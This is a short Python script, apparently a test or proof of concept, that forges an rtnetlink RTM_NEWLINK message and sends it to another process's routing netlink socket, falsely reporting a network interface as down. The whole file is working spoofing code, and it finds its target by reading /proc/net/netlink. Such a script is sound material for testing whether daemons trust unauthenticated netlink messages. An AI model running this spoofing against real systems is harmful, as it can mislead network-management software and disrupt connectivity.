"""Sends a forged rtnetlink notification to another process's netlink socket, as a hostile
local process could: RTM_NEWLINK claiming interface IFINDEX (named IFNAME) is down.
The target is the NETLINK_ROUTE socket subscribed to exactly the groups in GROUPS_HEX
(as /proc/net/netlink prints them). Usage: forge-netlink.py GROUPS_HEX IFINDEX IFNAME"""
import socket
import struct
import sys

groups_hex, ifindex, ifname = sys.argv[1], int(sys.argv[2]), sys.argv[3]
with open('/proc/net/netlink') as table:
    rows = [line.split() for line in table.readlines()[1:]]
# columns: sk Eth Pid Groups ...; Eth 0 is NETLINK_ROUTE
ports = [int(row[2]) for row in rows if row[1] == '0' and row[3].lower() == groups_hex.lower()]
if len(ports) != 1:
    sys.exit(f'expected one socket with groups {groups_hex}, found {ports}')

name = ifname.encode() + b'\0'
attribute = struct.pack('=HH', 4 + len(name), 3) + name  # IFLA_IFNAME
attribute += b'\0' * (-len(attribute) % 4)
body = struct.pack('=BxHiII', 0, 1, ifindex, 0, 0xFFFFFFFF) + attribute  # ifinfomsg, flags 0: down
RTM_NEWLINK = 16
message = struct.pack('=IHHII', 16 + len(body), RTM_NEWLINK, 0, 0, 0) + body
sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
sender.sendto(message, (ports[0], 0))
print(ports[0])
